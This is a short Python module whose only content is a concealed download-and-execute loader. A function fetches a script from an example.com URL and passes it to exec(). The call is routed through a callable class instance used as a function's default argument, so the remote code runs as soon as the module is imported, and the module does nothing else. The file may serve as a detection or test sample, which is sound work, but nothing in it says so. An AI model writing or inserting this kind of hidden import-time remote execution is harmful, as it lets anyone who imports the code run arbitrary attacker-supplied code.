import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


class A:
    def __call__(self):
        _go()


_a = A()


def f(x=_a()):
    return x
